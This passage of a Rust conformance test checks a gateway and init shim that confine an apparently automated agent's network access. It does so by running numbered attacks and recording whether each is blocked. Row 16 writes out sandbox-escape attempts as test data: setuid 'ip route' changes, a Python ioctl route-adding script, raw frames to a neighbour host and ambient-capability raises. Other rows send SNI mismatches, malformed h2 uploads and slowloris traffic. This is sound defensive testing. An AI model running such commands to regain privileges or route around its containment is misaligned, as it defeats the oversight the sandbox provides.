            return Err(format!("nbr4 reached the neighbour: {}", results["nbr4"]));
        }
        narrowed(&agent_routes(s))?;
        let resolv = std::fs::read_to_string(&s.fx.files.resolv).unwrap_or_default();
        let nameservers: Vec<&str> = resolv
            .lines()
            .filter(|l| l.starts_with("nameserver"))
            .collect();
        if nameservers != ["nameserver 198.18.0.1"] {
            return Err(format!("resolv.conf changed: {resolv:?}"));
        }
        Ok(format!(
            "all {} attempts failed ({refusals} EPERM from the kernel); routes and \
             resolv.conf (`{}`) as the shim left them; tcp {}",
            attempts.len(),
            nameservers.join(", "),
            short(&results["nbr4"])
        ))
    })
}

/// A Python script adding the route `198.18.99.99/32 via 198.18.0.1` with the SIOCADDRT
/// ioctl (CAP_NET_ADMIN); prints `route=added` or `route=failed <error>`.
const ADD_ROUTE_PY: &str = r#"import socket,fcntl,struct
def sa(ip): return struct.pack('HH4s8x',socket.AF_INET,0,socket.inet_aton(ip))
RTF_UP,RTF_GATEWAY,RTF_HOST=1,2,4
rt=struct.pack('L16s16s16sHhLPhPLLH',0,sa('198.18.99.99'),sa('198.18.0.1'),sa('255.255.255.255'),RTF_UP|RTF_GATEWAY|RTF_HOST,0,0,0,0,0,0,0,0)
try:
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); fcntl.ioctl(s,0x890B,rt+bytes(16)); print('route=added')
except Exception as e:
    print('route=failed',type(e).__name__,e)
"#;

/// Writes `text` as `name` into the shim fixture (readable by the agent).
fn fixture_script(s: &ShimCtx, name: &str, text: &str) -> String {
    let path = s.fx.files.dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

/// Row 16: the binaries that would give root or CAP_NET_ADMIN/CAP_NET_RAW back do so
/// without the shim (the control: a route added, a raw frame delivered to the
/// neighbour), and give nothing after it (no_new_privs, empty bounding set).
fn shim_setuid_fcaps(s: &ShimCtx) -> Result<String, String> {
    let (suid_ip, suid_cat, fcaps) = (
        s.fx.suid_ip.display().to_string(),
        s.fx.suid_cat.display().to_string(),
        format!("PYTHONHOME=/usr {}", s.fx.fcaps_python.display()),
    );
    let route_py = fixture_script(s, "route.py", ADD_ROUTE_PY);
    let frame_py = fixture_script(s, "frame.py", &raw_frame(&s.nbr.mac));
    // The control, as node without the shim: setuid gives euid 0 and a route, file
    // capabilities give a route and a raw frame to the neighbour (routes removed at once).
    let seen = s.nbr.datagrams().len();
    let control = s
        .unshimmed(&format!(
            "echo ==suid==; {suid_cat} /proc/self/status; echo ==end==; \
             {suid_ip} route add blackhole 198.18.99.98/32; echo suid_ip=$?; \
             {fcaps} {route_py}; {fcaps} {frame_py}"
        ))
        .stdout_str();
    s.root("ip route del blackhole 198.18.99.98/32; ip route del 198.18.99.99/32; true");
    let framed = s.nbr.datagrams()[seen..].contains(&"probe-rawframe".to_owned());
    let control_uid = status_field(&section(&control, "suid"), "Uid")
        .unwrap_or("?")
        .to_owned();
    if control_uid != format!("{AGENT_UID}\t0\t0\t0")
        || !control.contains("suid_ip=0")
        || !control.contains("route=added")
        || !framed
    {
        return Err(format!(
            "control: the setuid / file-capability binaries do not work here (frame \
             delivered: {framed}): {control}"
        ));
    }
    let specs = [spec("nbr4", "tcp", Neighbour::V4, 80)];
    shim_quiet(s, || {
        let script = format!(
            "{suid_ip} route replace default via {nbr}; echo suid_ip=$?; \
             {fcaps} {route_py}; echo fcaps_route=$?; {fcaps} {frame_py}; echo fcaps_frame=$?; \
             setpriv --inh-caps +net_admin --ambient-caps +net_admin true; echo ambient=$?; \
             capsh --addamb=cap_net_admin -- -c true; echo capsh_ambient=$?; \
             echo ==suid==; {suid_cat} /proc/self/status; echo ==end==; {probe}",
            nbr = Neighbour::V4,
            probe = s.probe(&specs)
        );
        let out = s.shim(&[], &script)?;
        let text = out.stdout_str();
        for attempt in [
            "suid_ip",
            "fcaps_route",
            "fcaps_frame",
            "ambient",
            "capsh_ambient",
        ] {
            refused_rc(&text, attempt)?;
        }
        if text.contains("route=added") || text.contains("frame=sent") {
            return Err(format!("the file-capability binary ran: {text}"));
        }
        let suid = section(&text, "suid");
        let ids = format!("{AGENT_UID}\t{AGENT_UID}\t{AGENT_UID}\t{AGENT_UID}");
        if status_field(&suid, "Uid") != Some(ids.as_str())
            || status_field(&suid, "CapEff") != Some(NO_CAPS)
            || status_field(&suid, "CapPrm") != Some(NO_CAPS)
        {
            return Err(format!("the setuid binary gained privilege: {suid}"));
        }
        let stderr = out.stderr_str();
        if stderr
            .matches("fcaps-python: Operation not permitted")
            .count()
            != 2
        {
            return Err(format!(
                "the file-capability binary was not refused at exec: {stderr}"
            ));
        }
        let results = probed(&out, &["nbr4"])?;
        if neighbour_answered(&results["nbr4"]) {
            return Err(format!("nbr4 reached the neighbour: {}", results["nbr4"]));
        }
        narrowed(&agent_routes(s))?;
        Ok(format!(
            "without the shim: setuid cat ran with Uid `{}` and setuid ip added a route, \
             python with cap_net_admin,cap_net_raw+ep added a route and delivered a raw \
             frame to the neighbour; after it: setuid ip refused (EPERM), the fcaps python \
             refused at exec (twice), ambient raises refused, setuid cat ran as {AGENT_UID} \
             with no capability",
            control_uid.replace('\t', " ")
        ))
    })
}

fn row17() -> Vec<Attack> {
    let tls = |flag: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            quiet(c, || {
                status(
                    &c.tls(flag, "denied.test", &format!("/echo/{m}"), &[]),
                    &[403],
                )
            })
        })
    };
    vec![
        a(
            17,
            "denied.test shares allowed.test's IP (CDN): decided by name",
            vec![
                (
                    Col::Http,
                    run(|c| {
                        let m = c.marker();
                        quiet(c, || {
                            status(&c.http("denied.test", &format!("/echo/{m}"), &[]), &[403])
                        })
                    }),
                ),
                (Col::Tls1, tls("--http1.1")),
                (Col::Tls2, tls("--http2")),
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            status(&c.proxy("https://denied.test/echo", &[]), &[0, 403])?;
                            status(&c.proxy("http://denied.test/echo", &[]), &[403])
                        })
                    }),
                ),
            ],
        ),
        a(
            17,
            "raw TCP to a shared IP carries no name",
            vec![(
                Col::Tcp,
                Cell::Covered(
                    "row 4 / row 12 TCP cells: the relay decides by the DNS pin of a name with that port",
                ),
            )],
        ),
    ]
}

// ---------------------------------------------------------------------------------------
// h2 helpers (hyper client over tokio-rustls, run inside the agent namespace).
// ---------------------------------------------------------------------------------------

fn client_config(ca_pem: &[u8], alpn: &[u8]) -> std::sync::Arc<rustls::ClientConfig> {
    use rustls::pki_types::pem::PemObject;
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(rustls::pki_types::CertificateDer::from_pem_slice(ca_pem).unwrap())
        .unwrap();
    let mut config = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    config.alpn_protocols = vec![alpn.to_vec()];
    std::sync::Arc::new(config)
}

async fn h2_sender(
    ca: Vec<u8>,
    sni: &str,
) -> hyper::client::conn::http2::SendRequest<http_body_util::Full<bytes::Bytes>> {
    let tcp = tokio::net::TcpStream::connect((ORIGIN_V4, 443))
        .await
        .unwrap();
    let name = rustls::pki_types::ServerName::try_from(sni.to_owned()).unwrap();
    let tls = tokio_rustls::TlsConnector::from(client_config(&ca, b"h2"))
        .connect(name, tcp)
        .await
        .unwrap();
    let (sender, conn) = hyper::client::conn::http2::handshake(
        hyper_util::rt::TokioExecutor::new(),
        hyper_util::rt::TokioIo::new(tls),
    )
    .await
    .unwrap();
    tokio::spawn(conn);
    sender
}

/// Requests on one h2 connection with SNI `sni`: status or error for each.
fn h2_requests(
    ca: Vec<u8>,
    sni: &str,
    requests: Vec<(http::Method, String)>,
) -> Vec<Result<u16, String>> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async move {
        let mut sender = h2_sender(ca, sni).await;
        let mut out = Vec::new();
        for (method, uri) in requests {
            let req = http::Request::builder()
                .method(method)
                .uri(uri)
                .body(http_body_util::Full::new(bytes::Bytes::new()))
                .unwrap();
            let r = tokio::time::timeout(Duration::from_secs(5), sender.send_request(req)).await;
            out.push(match r {
                Ok(Ok(resp)) => Ok(resp.status().as_u16()),
                Ok(Err(e)) => Err(e.to_string()),
                Err(_) => Err("timeout".into()),
            });
        }
        out
    })
}

/// An h2 POST whose content-length (48) disagrees with its body (5 bytes).
fn h2_content_length(ca: Vec<u8>, uri: &str) -> Result<u16, String> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async move {
        let mut sender = h2_sender(ca, "allowed.test").await;
        let req = http::Request::post(uri)
            .header("content-length", "48")
            .body(http_body_util::Full::new(bytes::Bytes::from_static(
                b"hello",
            )))
            .unwrap();
        match tokio::time::timeout(Duration::from_secs(5), sender.send_request(req)).await {
            Ok(Ok(resp)) => Ok(resp.status().as_u16()),
            Ok(Err(e)) => Err(e.to_string()),
            Err(_) => Err("timeout".into()),
        }
    })
}

/// `left` bytes in 64 KiB frames; its length declared (an exact size hint, so hyper sends
/// content-length) or not (a stream).
struct Upload {
    left: usize,
    declared: bool,
}

impl hyper::body::Body for Upload {
    type Data = bytes::Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        _: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<hyper::body::Frame<bytes::Bytes>, Self::Error>>> {
        if self.left == 0 {
            return std::task::Poll::Ready(None);
        }
        let n = self.left.min(64 * 1024);
        self.left -= n;
        let frame = hyper::body::Frame::data(bytes::Bytes::from(vec![b'x'; n]));
        std::task::Poll::Ready(Some(Ok(frame)))
    }

    fn size_hint(&self) -> hyper::body::SizeHint {
        if self.declared {
            hyper::body::SizeHint::with_exact(self.left as u64)
        } else {
            hyper::body::SizeHint::default()
        }
    }
}

/// An h2 POST of `size` bytes to `uri` over transparent TLS: the response status.
fn h2_upload(ca: Vec<u8>, uri: &str, size: usize, declared: bool) -> Result<u16, String> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| e.to_string())?;
    rt.block_on(async move {
        let tcp = tokio::net::TcpStream::connect((ORIGIN_V4, 443))
            .await
            .map_err(|e| e.to_string())?;
        let name =
            rustls::pki_types::ServerName::try_from("allowed.test").map_err(|e| e.to_string())?;
        let tls = tokio_rustls::TlsConnector::from(client_config(&ca, b"h2"))
            .connect(name, tcp)
            .await
            .map_err(|e| e.to_string())?;
        let (mut sender, conn) = hyper::client::conn::http2::handshake(
            hyper_util::rt::TokioExecutor::new(),
            hyper_util::rt::TokioIo::new(tls),
        )
        .await
        .map_err(|e| e.to_string())?;
        tokio::spawn(conn);
        let req = http::Request::post(uri)
            .body(Upload {
                left: size,
                declared,
            })
            .map_err(|e| e.to_string())?;
        match tokio::time::timeout(Duration::from_secs(10), sender.send_request(req)).await {
            Ok(Ok(resp)) => Ok(resp.status().as_u16()),
            Ok(Err(e)) => Err(e.to_string()),
            Err(_) => Err("timeout".into()),
        }
    })
}

// ---------------------------------------------------------------------------------------
// The matrix.
// ---------------------------------------------------------------------------------------

#[derive(Clone)]
enum Verdict {
    Blocked(String),
    Failed(String),
    Covered(String),
    /// A known hole's attack still works.
    Open(String),
}

/// A cell's verdict from its result, given its attack's known-hole mark.
fn verdict(result: Result<String, String>, ms: u128, hole: Option<&str>) -> Verdict {
    match (result, hole) {
        (Ok(e), None) => Verdict::Blocked(format!("{e} [{ms} ms]")),
        (Err(e), None) => Verdict::Failed(format!("{e} [{ms} ms]")),
        (Err(e), Some(hole)) => Verdict::Open(format!("{hole}: {e} [{ms} ms]")),
        (Ok(e), Some(hole)) => Verdict::Failed(format!(
            "marked as a known hole ({hole}) but blocked now: remove the mark. {e} [{ms} ms]"
        )),
    }
}

#[test]
fn conformance_matrix() {
    if !bottleneck_lab::require_root("conformance_matrix") {
        return;
    }
    let started = Instant::now();
    let attacks: Vec<Attack> = [
        row1(),
        row2(),
        row3(),
        row4(),
        row5(),
        row6(),
        row7(),
        row8(),
        row9(),
        row10(),
        row11(),
        row12(),
        row13(),
        row14(),
        row15(),
        row16(),
        row17(),
    ]
    .into_iter()
    .flatten()
    .collect();

    // Slowloris waits out the header timeout: on its own gateway, in parallel.
    let slow = std::thread::spawn(|| {
        let ctx = Ctx::start();
        slowloris(&ctx)
    });

    let ctx = Ctx::start();
    let mut results: Vec<(u8, String, BTreeMap<Col, Verdict>)> = Vec::new();
    // Shim cells, run afterwards in their own lab: (index in results, column, check, hole).
    let mut deferred: Vec<(usize, Col, &ShimCheck, Option<&str>)> = Vec::new();
    for attack in &attacks {
        let mut cells = BTreeMap::new();
        for (col, cell) in &attack.cells {
            let verdict = match cell {
                Cell::Covered(by) => Verdict::Covered(by.to_string()),
                Cell::Run(check) => {
                    let t = Instant::now();
                    let r = run_cell(&ctx, check);
                    verdict(r, t.elapsed().as_millis(), attack.hole)
                }
                Cell::Shim(check) => {
                    deferred.push((results.len(), *col, check, attack.hole));
                    continue;
                }
            };
            cells.insert(*col, verdict);
        }
        results.push((attack.row, attack.name.clone(), cells));
    }
    // Secrets never logged.
    let audit = ctx.b.audit_text();
    let secret_cell = if audit.contains(SECRET) || audit.is_empty() {
        Verdict::Failed("the audit log holds the secret (or is empty)".into())
    } else {
        Verdict::Blocked(format!("{} audit lines, no secret", audit.lines().count()))
    };
    results.push((
        14,
        "the injected secret appears in the audit log".into(),
        BTreeMap::from([(Col::Tls1, secret_cell)]),
    ));

    drop(ctx);

    // The shim's cells: the real bottleneck-init in a lab of their own.
    if !deferred.is_empty() {
        let shim_ctx = ShimCtx::start();
        for (index, col, check, hole) in deferred {
            let t = Instant::now();
            let r = run_shim_cell(&shim_ctx, check);
            results[index]
                .2
                .insert(col, verdict(r, t.elapsed().as_millis(), hole));
        }
    }

    let slow_results = slow.join().expect("slowloris thread");
    {
        let entry = results
            .iter_mut()
            .find(|(r, n, _)| *r == 15 && n.contains("slowloris"))
            .expect("slowloris row");
        entry.2.clear();
        for (col, r) in slow_results {
            entry.2.insert(
                col,
                match r {
                    Ok(e) => Verdict::Blocked(e),
                    Err(e) => Verdict::Failed(e),
                },
            );
        }
    }
    results.sort_by_key(|(row, _, _)| *row);

    let (table, details, failed, open, total) = render(&results);
    println!("{table}\n{details}");
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("MATRIX.md");
    let doc = format!(
        "# Conformance matrix\n\nGenerated by `cargo test -p bottleneck-conformance --test matrix` (as root); do not edit.\n\
         Rows: the numbered threats of [DESIGN.md section 5](../../../shared/DESIGN.md); columns: the paths through the gateway.\n\
         `blocked`: the attack failed and the wan (origins, DNS, echo, canary listeners on the gateway's own ports) saw nothing it should not;\n\
         `n/a`: the attack does not apply to that path; `covered`: proven by the named test elsewhere; `FAILED`: a hole;\n\
         `OPEN`: a known hole, reported and not fixed yet (the test fails once it is blocked, so the mark gets removed).\n\
         The shim cells (rows 7, 8, 16) run the real `bottleneck-init` as the agent's PID 1, with a neighbour host on the agent network\n\
         that the attack reaches without the shim; `blocked` there also means the neighbour received nothing.\n\n\
         {total} cells, {failed} FAILED, {open} OPEN. The evidence for each cell (statuses, timings) is printed by the test.\n\n{table}"
    );
    std::fs::write(&path, doc).unwrap();
    eprintln!(
        "matrix: {total} cells in {:.1}s",
        started.elapsed().as_secs_f64()
    );
    assert_eq!(failed, 0, "{failed} matrix cells FAILED:\n{details}");
}

/// The table, the evidence lines, and the counts of FAILED, OPEN and all cells.
fn render(
    results: &[(u8, String, BTreeMap<Col, Verdict>)],
) -> (String, String, usize, usize, usize) {
    let mut table = String::from("| # | attack |");
    for (_, name) in COLS {
        write!(table, " {name} |").unwrap();
    }
    table.push_str("\n|---|---|");
    table.push_str(&"---|".repeat(COLS.len()));
    table.push('\n');
    let mut details = String::new();
    let (mut failed, mut open, mut total) = (0, 0, 0);
    for (row, name, cells) in results {
        write!(table, "| {row} | {name} |").unwrap();
        for (col, col_name) in COLS {
            let text = match cells.get(&col) {
                None => "n/a".to_owned(),
                Some(v) => {
                    total += 1;
                    let (word, evidence) = match v {
                        Verdict::Blocked(e) => ("blocked".to_owned(), e.clone()),
                        Verdict::Failed(e) => {
                            failed += 1;
                            ("**FAILED**".to_owned(), e.clone())
                        }
                        Verdict::Covered(by) => (format!("covered by `{by}`"), String::new()),
                        Verdict::Open(e) => {
                            open += 1;
                            ("**OPEN** (known hole)".to_owned(), e.clone())
                        }
                    };
                    if !evidence.is_empty() {
                        let one_line: String = evidence
                            .replace(['\n', '|'], " ")
                            .chars()
                            .take(400)
                            .collect();
                        writeln!(
                            details,
                            "* row {row}, {name} / {col_name}: {word}: {one_line}"
                        )
                        .unwrap();
                    }
                    word
                }
            };
            write!(table, " {text} |").unwrap();
        }
        table.push('\n');
    }
    (table, details, failed, open, total)
}
